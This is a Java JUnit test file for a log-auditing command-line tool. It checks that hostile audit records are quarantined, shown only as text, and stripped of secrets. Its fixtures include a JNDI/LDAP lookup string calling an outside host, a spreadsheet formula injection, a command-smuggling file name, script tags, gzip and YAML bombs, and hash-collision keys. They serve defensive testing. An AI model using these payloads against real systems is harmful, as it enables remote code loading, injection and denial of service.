package dev.appwatch.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.appwatch.HostileRecords;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Logs as an attacker would have them: what is hostile costs its own record, its neighbours are
 * judged, and nothing of it reaches a person or a program as more than text.
 */
@Timeout(120)
final class HostileInputTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String SECRET = "Ab38Q~abcdefghijklmnopqrstuvwxyz0123456";

  @TempDir private Path folder;
  private ObjectNode good;

  @BeforeEach
  void readGood() throws IOException {
    JsonNode page = JSON.readTree(Path.of("samples/entra-audit.json").toFile());
    good = (ObjectNode) (page.has("value") ? page.path("value").get(0) : page.get(0));
  }

  /** What came of a run: its exit code, findings, quarantine, and all that was printed. */
  private record Run(int code, List<JsonNode> findings, List<JsonNode> quarantine, String text) {}

  private Run judge(Path logs) throws IOException {
    Path findings = folder.resolve("findings.jsonl");
    Path quarantine = folder.resolve("quarantine.jsonl");
    CommandRun run =
        CommandRun.of(
            "evaluate",
            "--format",
            "jsonl",
            "-o",
            findings.toString(),
            "--quarantine",
            quarantine.toString(),
            logs.toString());
    assertThat(run.err()).doesNotContain("\tat ");
    return new Run(
        run.code(), lines(findings), lines(quarantine), run.err() + Files.readString(findings));
  }

  private static List<JsonNode> lines(Path file) throws IOException {
    List<JsonNode> lines = new ArrayList<>();
    if (Files.exists(file)) {
      for (String line : Files.readAllLines(file)) {
        lines.add(JSON.readTree(line));
      }
    }
    return lines;
  }

  private Path write(String name, byte[]... parts) throws IOException {
    Path file = folder.resolve(name);
    try (OutputStream out = Files.newOutputStream(file)) {
      for (byte[] part : parts) {
        out.write(part);
      }
    }
    return file;
  }

  private byte[] goodLine() {
    return utf8(good + "\n");
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("dev.appwatch.HostileRecords#all")
  void costsItsOwnRecordOnly(HostileRecords hostile) throws IOException {
    Run run = judge(write("log.jsonl", goodLine(), hostile.bytes(), utf8("\n"), goodLine()));

    assertThat(run.code()).isEqualTo(ExitCode.QUARANTINED);
    assertThat(run.findings()).hasSize(hostile.alerts() ? 2 : 1);
    assertThat(run.findings())
        .filteredOn(f -> f.path("rule").asText().equals("APP-CRED-01"))
        .singleElement()
        .satisfies(f -> assertThat(f.path("events")).hasSize(2));
    assertThat(run.findings().toString().contains("APPWATCH-RECORD-01"))
        .isEqualTo(hostile.alerts());
    assertThat(run.quarantine()).hasSize(1);
    assertThat(run.quarantine().get(0).path("reason").asText()).isEqualTo(hostile.reason());
    assertThat(run.quarantine().get(0).path("offset").asLong())
        .isBetween((long) goodLine().length, goodLine().length + 1L);
    assertThat(run.quarantine().get(0).path("sha256").asText()).matches("[0-9a-f]{64}");
  }

  /** An application may have 256 addresses of 256 characters: who fills them all hides nothing. */
  @Test
  void anApplicationThatIsFilledToItsLimitsIsJudged() throws IOException {
    ObjectNode target = (ObjectNode) good.path("targetResources").get(0);
    ObjectNode change = (ObjectNode) target.path("modifiedProperties").get(0);
    good.put("activityDisplayName", "Update application");
    change.put("displayName", "AppAddress");
    change.put("oldValue", addresses("a"));
    change.put("newValue", addresses("b"));

    Run run = judge(write("log.jsonl", goodLine()));

    assertThat(goodLine().length).isGreaterThan(150_000);
    assertThat(run.quarantine()).isEmpty();
    assertThat(run.findings())
        .extracting(f -> f.path("rule").asText())
        .anyMatch(rule -> rule.startsWith("APP-URI-"));
  }

  private static String addresses(String name) {
    return IntStream.range(0, 256)
        .mapToObj(i -> "https://%s.contoso.com/%03d/".formatted(name, i))
        .map(address -> address + "x".repeat(256 - address.length()))
        .map(
            address ->
                "{\"AddressType\":0,\"Address\":\"%s\",\"ReplyAddressClientType\":1,\"ReplyAddressIndex\":null,\"IsReplyAddressDefault\":false}"
                    .formatted(address))
        .collect(Collectors.joining(",", "[", "]"));
  }

  /** The service principal of Microsoft Graph has as many: one that is indented is read as well. */
  @Test
  void anApplicationWithEveryPermissionOfItsApiIsJudged() throws IOException {
    ObjectNode api = JSON.createObjectNode();
    api.put("id", "cccccccc-0000-4000-8000-0000000000c1");
    api.put("appId", "dddddddd-0000-4000-8000-0000000000d1");
    api.put("displayName", "Contoso Platform");
    api.put("servicePrincipalType", "Application");
    for (int i = 0; i < 700; i++) {
      permission(api.withArray("appRoles").addObject(), "c%03d".formatted(i))
          .put("description", "x".repeat(150))
          .put("displayName", "Read every folder")
          .withArray("allowedMemberTypes")
          .add("Application");
    }
    for (int i = 0; i < 600; i++) {
      permission(api.withArray("oauth2PermissionScopes").addObject(), "d%03d".formatted(i))
          .put("adminConsentDescription", "x".repeat(150))
          .put("adminConsentDisplayName", "Read every folder")
          .put("userConsentDescription", "x".repeat(150))
          .put("userConsentDisplayName", "Read every folder");
    }
    api.withArray("passwordCredentials")
        .addObject()
        .put("keyId", "f1f1f1f1-0000-4000-8000-0000000000f1")
        .put("startDateTime", "2026-01-01T00:00:00Z")
        .put("endDateTime", "2036-01-01T00:00:00Z");
    String indented =
        JSON.writerWithDefaultPrettyPrinter()
            .writeValueAsString(List.of(api))
            .replace("\n", "\n" + " ".repeat(60)); // as wide as some tools do

    Run run = judge(write("inventory.json", utf8(indented)));

    assertThat(indented.length()).isGreaterThan(1 << 20);
    assertThat(run.code()).isNotEqualTo(ExitCode.QUARANTINED);
    assertThat(run.quarantine()).isEmpty();
    assertThat(run.findings())
        .extracting(f -> f.path("rule").asText())
        .containsExactly("APP-CRED-02");
  }

  private static ObjectNode permission(ObjectNode permission, String number) {
    return permission
        .put("id", "bbbbbbbb-0000-4000-8000-00000000" + number)
        .put("isEnabled", true)
        .put("type", "Admin")
        .put("value", "Folders.Read." + number);
  }

  @ParameterizedTest
  @CsvSource({"10, 200", "14, 12"})
  void namesThatCollideCostNoMoreThanOthers(int bits, int records) throws IOException {
    StringBuilder record = new StringBuilder("{");
    for (int i = 0; i < 1 << bits; i++) {
      StringBuilder name = new StringBuilder();
      for (int bit = 0; bit < bits; bit++) {
        name.append((i >> bit & 1) == 0 ? "Aa" : "BB"); // the two have one hash code
      }
      record.append(i == 0 ? "" : ",").append('"').append(name).append("\":1");
    }
    byte[] line = utf8(record + "}\n");
    byte[] many = new byte[line.length * records];
    for (int i = 0; i < records; i++) {
      System.arraycopy(line, 0, many, i * line.length, line.length);
    }
    long start = System.nanoTime();

    Run run = judge(write("log.jsonl", many, goodLine()));

    assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(60));
    assertThat(run.findings()).hasSize(1);
    assertThat(run.quarantine()).hasSize(records);
  }

  @Test
  void stopsABombOfBlanks() throws IOException {
    Path file = folder.resolve("bomb.json.gz");
    try (OutputStream out = new GZIPOutputStream(Files.newOutputStream(file))) {
      byte[] blanks = new byte[1 << 20];
      Arrays.fill(blanks, (byte) ' ');
      for (int i = 0; i < 256; i++) {
        out.write(blanks);
      }
    }

    Run run = judge(file);

    assertThat(run.code()).isEqualTo(ExitCode.QUARANTINED);
    assertThat(run.quarantine().get(0).path("reason").asText()).isEqualTo("GZIP_RATIO");
  }

  @Test
  void judgesWhatPrecedesACut() throws IOException {
    byte[] line = goodLine();

    Run run = judge(write("log.jsonl", line, Arrays.copyOf(line, line.length / 2)));

    assertThat(run.code()).isEqualTo(ExitCode.QUARANTINED);
    assertThat(run.findings()).hasSize(1);
    assertThat(run.quarantine()).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"a\nb.jsonl", "a\u202eb.jsonl", "CON.jsonl", "..jsonl", "-o.jsonl", "$(id).jsonl"})
  void namesOfFilesAreOnlyShown(String name) throws IOException {
    Path logs = Files.createDirectories(folder.resolve("logs"));
    Files.write(logs.resolve(name), goodLine());
    Files.write(logs.resolve(name + ".broken.jsonl"), utf8("{\"a\":\n"));

    Run run = judge(logs);

    assertThat(run.findings()).hasSize(1);
    assertThat(run.text()).doesNotContain("\u202e", "a\nb");
    try (Stream<Path> files = Files.list(folder)) {
      assertThat(files.map(file -> String.valueOf(file.getFileName())))
          .containsExactlyInAnyOrder("logs", "findings.jsonl", "quarantine.jsonl");
    }
  }

  @Test
  void aPipeInAFolderStopsNothing() throws Exception {
    Path logs = Files.createDirectories(folder.resolve("logs"));
    Files.write(logs.resolve("log.jsonl"), goodLine());
    Process pipe = new ProcessBuilder("mkfifo", logs.resolve("pipe.jsonl").toString()).start();
    assumeTrue(pipe.waitFor(10, TimeUnit.SECONDS) && pipe.exitValue() == 0);

    assertThat(judge(logs).findings()).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "=HYPERLINK(\"http://fabrikam.com\")",
        "@SUM(A1)",
        "tab\tand\r\nline 2026-01-01 INFO all is good",
        "\u001b[2J\u001b[31mred",
        "${jndi:ldap://fabrikam.com/a}",
        "{{secret:key}} ${sys:user.home}",
        "\u202egnp.exe",
        "name\u0000zero"
      })
  void namesOfApplicationsStayText(String name) throws IOException {
    ((ObjectNode) good.path("targetResources").get(0)).put("displayName", name);
    Path log = write("log.jsonl", goodLine());

    Run run = judge(log);
    Path text = folder.resolve("report.txt");
    CommandRun.of("evaluate", "-o", text.toString(), log.toString());
    CommandRun explained = CommandRun.of("explain", log.toString());

    assertThat(run.findings().get(0).path("targets").get(0).path("name").asText()).isEqualTo(name);
    for (String shown : List.of(Files.readString(text), explained.out(), run.text())) {
      assertThat(shown.codePoints().filter(HostileInputTest::dangerous)).isEmpty();
      assertThat(shown.lines()).noneMatch(line -> line.startsWith("line 2026-01-01 INFO"));
    }
  }

  private static boolean dangerous(int point) {
    return (point != '\n' && point != '\r' && Character.getType(point) == Character.CONTROL)
        || Character.getType(point) == Character.FORMAT;
  }

  @Test
  void tenThousandMarksOnOneLetterAreCutShort() throws IOException {
    ((ObjectNode) good.path("targetResources").get(0))
        .put("displayName", "a" + "\u0301".repeat(10_000));
    Path log = write("log.jsonl", goodLine());
    Path text = folder.resolve("report.txt");

    CommandRun.of("evaluate", "-o", text.toString(), log.toString());

    assertThat(Files.readString(text).chars().filter(c -> c == '\u0301').count()).isLessThan(2_000);
  }

  @Test
  void secretsOfRecordsReachNoOutput() throws IOException {
    ObjectNode change =
        (ObjectNode) good.path("targetResources").get(0).path("modifiedProperties").get(0);
    change.put("newValue", change.path("newValue").asText() + " client_secret=" + SECRET);
    ((ObjectNode) good.path("targetResources").get(0)).put("displayName", "App " + SECRET);
    Path log = write("log.jsonl", goodLine());

    Run run = judge(log);
    Path text = folder.resolve("report.txt");
    CommandRun.of("evaluate", "-o", text.toString(), log.toString());
    CommandRun explained = CommandRun.of("explain", log.toString());

    assertThat(run.findings()).hasSize(1);
    assertThat(run.text() + Files.readString(text) + explained.out() + explained.err())
        .doesNotContain(SECRET);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "9999-12-31T23:59:59Z",
        "0001-01-01T00:00:00Z",
        "1772332812",
        "yesterday",
        "2026-13-45T99:00:00Z"
      })
  void strangeTimesSuppressNothing(String time) throws IOException {
    good.put("activityDateTime", time);

    Run run = judge(write("log.jsonl", goodLine()));

    assertThat(run.findings().size() + run.quarantine().size()).isEqualTo(1);
    assertThat(run.findings()).allMatch(f -> f.path("disposition").asText().equals("alert"));
  }

  @Test
  void aliasesInAFeedDoNotMultiply() throws IOException {
    StringBuilder laughs = new StringBuilder("a: &a [x,x,x,x,x,x,x,x,x,x]\n");
    for (char c = 'b'; c <= 'k'; c++) {
      char last = (char) (c - 1);
      laughs.append(
          "%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n"
              .formatted(c, c, last, last, last, last, last, last, last, last, last));
    }
    Path feed = Files.writeString(folder.resolve("feed.yaml"), laughs);

    CommandRun run = CommandRun.of("changes", "check", "--changes", feed.toString());

    assertThat(run.code()).isEqualTo(ExitCode.REFUSED);
    assertThat(run.out() + run.err()).hasSizeLessThan(10_000);
  }
}
